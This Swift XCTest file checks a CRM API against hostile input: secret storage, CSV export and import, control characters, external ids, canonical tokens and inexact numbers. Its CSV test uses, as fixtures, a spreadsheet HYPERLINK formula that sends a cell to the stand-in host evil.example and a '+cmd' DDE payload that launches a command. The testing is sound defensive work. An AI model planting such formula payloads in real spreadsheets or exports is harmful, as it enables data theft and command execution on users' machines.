import API
import Foundation
import SQLite
import XCTest

@testable import CRM

/// Records as an attacker writes and names them (issue: hostile input, findings 3 to 6).
final class HostileRecordTests: CustomerTestCase {
    // MARK: 3. API key secrets are never stored

    func testKeyCreationReplayAnswers409AndTheSecretIsNowhereInTheDatabase() throws {
        let headers = [("Idempotency-Key", "new-key-1")]
        let body = ["name": "sync bot", "role": "sales"]
        let first = try api.send("POST", "/v1/api-keys", json: body, headers: headers)
        XCTAssertEqual(first.status, 201)
        let secret = try XCTUnwrap(try first.json()["secret"] as? String)
        let replay = try api.send("POST", "/v1/api-keys", json: body, headers: headers)
        XCTAssertEqual(replay.status, 409, replay.text)
        XCTAssertFalse(replay.text.contains(secret))
        XCTAssertFalse(replay.text.contains("crm_"))
        // Still one key created, and no stored row holds the secret.
        let keys = try XCTUnwrap(try api.send("GET", "/v1/api-keys").json()["data"] as? [[String: Any]])
        XCTAssertEqual(keys.count, 2)
        let stored = try server.application.database.read { connection in
            try connection.query("SELECT body, headers FROM idempotency_keys").map { row in
                String(decoding: row.blob("body") ?? [], as: UTF8.self) + (row.string("headers") ?? "")
            }
        }
        XCTAssertEqual(stored.count, 1)
        for text in stored { XCTAssertFalse(text.contains(secret)) }
        // A different body under the same key is still a 422.
        let other = try api.send("POST", "/v1/api-keys", json: ["name": "other", "role": "sales"], headers: headers)
        XCTAssertEqual(other.status, 422)
    }

    func testMigrationWithholdsSecretsStoredBeforeIt() throws {
        try TestDatabase.requireSQLite("a migration of a SQLite file written before it")
        let migration = try XCTUnwrap(try Schema.migrations().first { $0.name == "withhold_stored_key_secrets" })
        let planted = #"{"id":2,"name":"old","role":"admin","created_at":"2026-01-01T00:00:00.000Z","secret":"crm_2_abc"}"#
        try server.application.database.writeAndWait { connection in
            try connection.run(
                "INSERT INTO idempotency_keys (key_id, idempotency_key, request_hash, status, headers, body, created_at) VALUES (1, 'old', x'00', 201, '[]', ?, '2026-01-01T00:00:00.000Z')",
                [.blob(Array(planted.utf8))])
            try connection.run(
                "INSERT INTO idempotency_keys (key_id, idempotency_key, request_hash, status, headers, body, created_at) VALUES (1, 'customer', x'00', 201, '[]', ?, '2026-01-01T00:00:00.000Z')",
                [.blob(Array(#"{"id":1,"name":"kept"}"#.utf8))])
            try connection.execute(migration.sql)
        }
        let rows = try server.application.database.read { connection in
            try connection.query("SELECT idempotency_key, status, body FROM idempotency_keys ORDER BY idempotency_key").map {
                ($0.string("idempotency_key") ?? "", $0.int("status") ?? 0, String(decoding: $0.blob("body") ?? [], as: UTF8.self))
            }
        }
        XCTAssertEqual(rows.map(\.0), ["customer", "old"])
        XCTAssertEqual(rows[0].1, 201)
        XCTAssertEqual(rows[0].2, #"{"id":1,"name":"kept"}"#)
        XCTAssertEqual(rows[1].1, 409)
        XCTAssertEqual(rows[1].2, "")
    }

    // MARK: 4. CSV formulas and control characters

    func testExportNeutralisesFormulasAndImportRestoresThem() throws {
        let formula = #"=HYPERLINK("http://evil.example/?x="&A1,"click")"#
        try api.create([
            "type": "company", "name": formula, "company": "+cmd|'/C calc'!A0", "phone": "+86 138 0000 0000",
            "email": "formula@example.com",
        ])
        let export = try api.send("GET", "/v1/customers/export?format=csv")
        XCTAssertEqual(export.status, 200)
        let rows = CSVText.parse(export.text)
        let header = try XCTUnwrap(rows.first)
        let row = try XCTUnwrap(rows.dropFirst().first)
        func cell(_ name: String) -> String? { header.firstIndex(of: name).map { row[$0] } }
        XCTAssertEqual(cell("name"), "'" + formula)
        XCTAssertEqual(cell("company"), "'+cmd|'/C calc'!A0")
        XCTAssertEqual(cell("phone"), "'+86 138 0000 0000")
        for value in row { XCTAssertFalse(["=", "+", "-", "@", "\t", "\r"].contains(value.first.map(String.init) ?? "")) }

        // Import takes exactly that one quote off again; a quote before anything else stays.
        let csv = "name,type,company,title\r\n\"'=SUM(1,2)\",person,'+x,'plain\r\n\"''=kept\",person,,\r\n"
        let imported = try api.send("POST", "/v1/customers/import", json: csv, headers: [("Content-Type", "text/csv")])
        XCTAssertEqual(imported.status, 200, imported.text)
        let results = try XCTUnwrap(try imported.json()["results"] as? [[String: Any]])
        let first = try XCTUnwrap(results.first?["id"] as? Int)
        let second = try XCTUnwrap(results.last?["id"] as? Int)
        let one = try api.get(first).json()
        XCTAssertEqual(one["name"] as? String, "=SUM(1,2)")
        XCTAssertEqual(one["company"] as? String, "+x")
        XCTAssertEqual(one["title"] as? String, "'plain")
        XCTAssertEqual(try api.get(second).json()["name"] as? String, "'=kept")
    }

    func testControlCharactersAreRefusedInEveryTextField() throws {
        for (field, value) in [
            ("name", "Zhang\u{0}Wei" as Any), ("company", "Acme\u{1B}[31m"), ("tags", ["ok", "bad\u{7}"]),
            ("attributes", ["note": "x\u{1}"]),
        ] {
            var body: [String: Any] = ["type": "person", "name": "Clean"]
            body[field] = value
            let reply = try api.send("POST", "/v1/customers", json: body)
            XCTAssertEqual(reply.status, 422, field)
            XCTAssertTrue(reply.problemFields.contains { $0.hasPrefix(field) }, "\(field): \(reply.text)")
        }
        let comment = try api.send(
            "POST", "/v1/customers", json: ["type": "person", "name": "Multi", "title": "line one\tand\r\nline two"])
        XCTAssertEqual(comment.status, 201, "tab, CR and LF stay allowed")
        XCTAssertEqual(try api.storedCustomerCount(), 1, "only the clean customer was written")
    }

    // MARK: 5. Upsert by external id

    func testExternalIDInThePathIsCheckedLikeTheField() throws {
        let blank = try api.send("PUT", "/v1/customers/by-external-id/%20", json: ["type": "person", "name": "Blank"])
        XCTAssertEqual(blank.status, 422)
        XCTAssertEqual(blank.problemEntry("external_id")?["code"] as? String, "required")
        let long = String(repeating: "a", count: 256)
        let tooLong = try api.send("PUT", "/v1/customers/by-external-id/\(long)", json: ["type": "person", "name": "Long"])
        XCTAssertEqual(tooLong.status, 422)
        XCTAssertEqual(tooLong.problemEntry("external_id")?["code"] as? String, "too_long")
        XCTAssertEqual(try api.storedCustomerCount(), 0)

        let body = ["type": "person", "name": "Lead"]
        let created = try api.send("PUT", "/v1/customers/by-external-id/%20lead", json: body)
        XCTAssertEqual(created.status, 201)
        XCTAssertEqual(try created.json()["external_id"] as? String, "lead")
        let retried = try api.send("PUT", "/v1/customers/by-external-id/%20lead", json: body)
        XCTAssertEqual(retried.status, 200, retried.text)
        XCTAssertEqual(try api.send("PUT", "/v1/customers/by-external-id/lead", json: body).status, 200)
        XCTAssertEqual(try api.storedCustomerCount(), 1)

        let fetched = try api.send("GET", "/v1/customers/by-external-id/lead")
        XCTAssertEqual(fetched.status, 200)
        XCTAssertEqual(try fetched.json()["name"] as? String, "Lead")
        XCTAssertNotNil(fetched.header("ETag"))
        XCTAssertEqual(try api.send("GET", "/v1/customers/by-external-id/nobody").status, 404)
        XCTAssertEqual(try api.send("GET", "/v1/customers/by-external-id/lead", authorized: false).status, 401)
    }

    // MARK: 6. One canonical form for ids, paths and tokens; exact numbers

    func testNonCanonicalIdsAndPathsNameNothing() throws {
        let id = try api.createPerson("Canonical")
        XCTAssertEqual(try api.send("GET", "/v1/customers/\(id)").status, 200)
        for target in [
            "/v1/customers/0\(id)", "/v1/customers/+\(id)", "/v1/customers/\(id)/", "/v1//customers/\(id)", "//v1/customers/\(id)",
        ] {
            XCTAssertEqual(try api.send("GET", target).status, 404, target)
        }
        XCTAssertEqual(try api.send("PATCH", "/v1/customers/0\(id)", json: ["title": "x"]).status, 404)
    }

    func testNonCanonicalTokensAre401AndTwoAuthorizationHeadersAre400() throws {
        let secret = server.adminKey
        let random = secret.split(separator: "_", maxSplits: 2).last.map(String.init) ?? ""
        let id = secret.split(separator: "_")[1]
        for token in ["crm_0\(id)_\(random)", "crm_+\(id)_\(random)"] {
            let reply = try api.send("GET", "/v1/customers", headers: [("Authorization", "Bearer \(token)")], authorized: false)
            XCTAssertEqual(reply.status, 401, token)
        }
        let twice = try api.send(
            "GET", "/v1/customers",
            headers: [("Authorization", "Bearer \(secret)"), ("Authorization", "Bearer \(secret)")], authorized: false)
        XCTAssertEqual(twice.status, 400)
        XCTAssertEqual(try api.send("GET", "/v1/customers").status, 200)
    }

    func testAttributeNumbersThatADoubleWouldChangeAre422() throws {
        for literal in ["1e-400", "123456789012345678901234567890123456789", "0.12345678901234567890123"] {
            let reply = try api.send(
                "POST", "/v1/customers", json: #"{"type":"person","name":"N","attributes":{"score":\#(literal)}}"#)
            XCTAssertEqual(reply.status, 422, literal)
            XCTAssertEqual(reply.problemEntry("attributes")?["code"] as? String, "inexact_number", literal)
        }
        // Named by the member the number is in, wherever it is.
        let huge = try api.send("POST", "/v1/customers", json: #"{"type":"person","name":"N","tier_override":1e400}"#)
        XCTAssertEqual(huge.status, 422, huge.text)
        XCTAssertEqual(huge.problemEntry("tier_override")?["code"] as? String, "inexact_number")
        let bare = try api.send("POST", "/v1/customers/search", json: "1e400")
        XCTAssertEqual(bare.problemEntry("body")?["code"] as? String, "inexact_number", "no member to name")
        let fine = try api.send(
            "POST", "/v1/customers",
            json: #"{"type":"person","name":"N","attributes":{"a":1.5,"b":0.1,"c":1e2,"d":-0.0,"e":12345678901234567}}"#)
        XCTAssertEqual(fine.status, 201, fine.text)
        let attributes = try XCTUnwrap(try fine.json()["attributes"] as? [String: Any])
        XCTAssertEqual(attributes["a"] as? Double, 1.5)
        XCTAssertEqual(attributes["e"] as? Int, 12_345_678_901_234_567)
    }
}
